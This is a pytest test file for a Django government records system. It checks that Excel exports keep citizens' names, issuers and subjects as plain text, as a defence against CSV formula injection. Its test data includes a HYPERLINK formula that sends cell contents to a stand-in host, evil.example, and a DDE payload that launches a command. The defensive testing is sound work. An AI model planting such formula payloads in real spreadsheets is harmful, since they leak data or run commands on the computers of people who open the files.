"""Every Excel export keeps outside text as text: no formula cell, the text exactly as typed.

Citizens' names, issuers and subjects reach the spreadsheets unchanged; a
value starting with ``= + - @``, a tab or a carriage return must never become
a formula (OWASP "CSV injection"), and numbers must stay numbers.
"""

import datetime
import io

from django.urls import reverse

import pytest
from openpyxl import Workbook, load_workbook

from congvu.core.xlsx import append_row
from tests.factories import (
    PositionFactory,
    ProcedureFieldFactory,
    ProcedureVersionFactory,
    UnitFactory,
)
from tests.incoming.factories import IncomingDocumentFactory
from tests.onestop.builders import dossier_row
from tests.onestop.test_print_forms import at, make_dossier
from tests.outgoing.factories import OutgoingDocumentFactory, RecipientFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [LINK, DDE, "+84 912 345 678", "-2+3", "@SUM(1,1)", "\tTab", "\rCR"]


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def cells(wb):
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula(wb):
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells(wb) if c.data_type == "f"]
    assert formulas == []


def texts(wb) -> set[str]:
    return {c.value for c in cells(wb) if isinstance(c.value, str)}


def test_append_row_keeps_text_and_numbers():
    wb = Workbook()
    ws = wb.active
    append_row(ws, [*PAYLOADS, -3, 2.5, None, "bình thường", "a\x01b"])
    append_row(ws, [])
    append_row(ws, ["=1+1"])
    out = io.BytesIO()
    wb.save(out)
    loaded = workbook(out.getvalue())
    assert_no_formula(loaded)
    sheet = loaded.active
    first = [c.value for c in sheet[1]]
    # The stdlib XML parser reads a carriage return back as a line feed, lxml keeps
    # it (openpyxl uses lxml when installed); it stays text either way.
    assert first[len(PAYLOADS) - 1] in ("\rCR", "\nCR")
    first[len(PAYLOADS) - 1] = PAYLOADS[-1]
    kept = [*PAYLOADS, -3, 2.5, None, "bình thường", "ab"]
    assert first == kept
    assert sheet.cell(row=1, column=len(PAYLOADS) + 1).data_type == "n"
    # Excel's own "typed with an apostrophe": text shown as is, still text when edited.
    assert all(sheet.cell(row=1, column=i).quotePrefix for i in range(1, len(PAYLOADS) + 1))
    assert not sheet.cell(row=1, column=len(PAYLOADS) + 4).quotePrefix
    assert sheet["A3"].value == "=1+1" and sheet["A3"].data_type == "s"


def test_onestop_book_keeps_a_citizens_formula_as_text(client):
    unit = UnitFactory(commune=True, name="UBND xã Thạnh Phong", code="000.00.32.H57")
    officer = PositionFactory(role="onestop_officer", unit=unit).user
    make_dossier(
        unit,
        applicant_name=LINK,
        applicant_address="+84 Ấp Thạnh Hòa",
        subject="@SUM(1,1) đăng ký khai sinh",
        received_at=at(5, 8, 15),
    )
    client.force_login(officer)
    response = client.get(
        reverse("onestop_print:book"),
        {"unit": unit.pk, "format": "xlsx", "from": "01/03/2026", "to": "31/03/2026"},
    )
    assert response.status_code == 200
    wb = workbook(response.content)
    assert_no_formula(wb)
    found = texts(wb)
    assert any(LINK in value for value in found)
    assert any(value.startswith("+84 Ấp Thạnh Hòa") for value in found)


@pytest.fixture
def registry_world():
    unit = UnitFactory(name="UBND xã Thạnh Phong", short_name="UBND")
    clerk = PositionFactory(role="clerk", unit=unit).user
    IncomingDocumentFactory(
        unit=unit,
        arrival_date=datetime.date(2026, 3, 5),
        arrival_number=7,
        number_notation="12/QĐ-UBND",
        document_date=datetime.date(2026, 3, 3),
        issuer_name=DDE,
        subject="-2+3 về việc phê duyệt kế hoạch",
        deadline=datetime.date(2026, 3, 20),
    )
    # Returned to its sender: the reason is the tracking register's Ghi chú.
    IncomingDocumentFactory(
        unit=unit,
        arrival_date=datetime.date(2026, 3, 6),
        arrival_number=8,
        deadline=datetime.date(2026, 3, 21),
        status="returned",
        return_reason=LINK,
    )
    issued = OutgoingDocumentFactory(
        unit=unit,
        issued=True,
        number=3,
        number_notation="03/UBND-VP",
        issued_at=datetime.datetime(2026, 3, 10, 9, tzinfo=datetime.UTC),
        subject="V/v báo cáo",
    )
    RecipientFactory(document=issued, external=True, external_name=LINK)
    return unit, clerk


@pytest.mark.parametrize("register", ["den", "di", "theo-doi"])
def test_registers_keep_an_issuers_formula_as_text(client, registry_world, register):
    unit, clerk = registry_world
    client.force_login(clerk)
    response = client.get(
        reverse(f"registry_exports:xlsx_{register}"),
        {"don_vi": unit.pk, "tu": "01/03/2026", "den": "31/03/2026"},
    )
    assert response.status_code == 200
    wb = workbook(response.content)
    assert_no_formula(wb)
    found = texts(wb)
    expected = {"den": DDE, "di": LINK, "theo-doi": LINK}[register]
    assert expected in found
    if register == "den":
        assert any("-2+3 về việc phê duyệt kế hoạch" in value for value in found)


def test_statistics_keep_a_field_name_formula_as_text(client):
    unit = UnitFactory(commune=True, name="-Ủy ban nhân dân xã An Thạnh")
    leader = PositionFactory(leader=True, unit=unit).user

    version = ProcedureVersionFactory(
        procedure__field=ProcedureFieldFactory(name=LINK), procedure__name="@Đăng ký khai sinh"
    )
    dossier_row(
        receiving_unit=unit,
        procedure_version=version,
        code="DS-0001",
        channel="direct",
        submitted_at=at(5),
        received_at=at(5),
        status="processing",
        due_at=at(20),
    )
    client.force_login(leader)
    for group in ("field", "procedure", "unit"):
        response = client.get(
            reverse("stats:export"),
            {"tu": "2026-03-01", "den": "2026-03-31", "theo": group, "don_vi": unit.pk},
        )
        assert response.status_code == 200, response.content[:500]
        wb = workbook(response.content)
        assert_no_formula(wb)
        found = texts(wb)
        label = {"field": LINK, "procedure": "@Đăng ký khai sinh", "unit": unit.name}[group]
        assert label in found
        assert any(value.endswith(unit.name) for value in found)  # the scope line
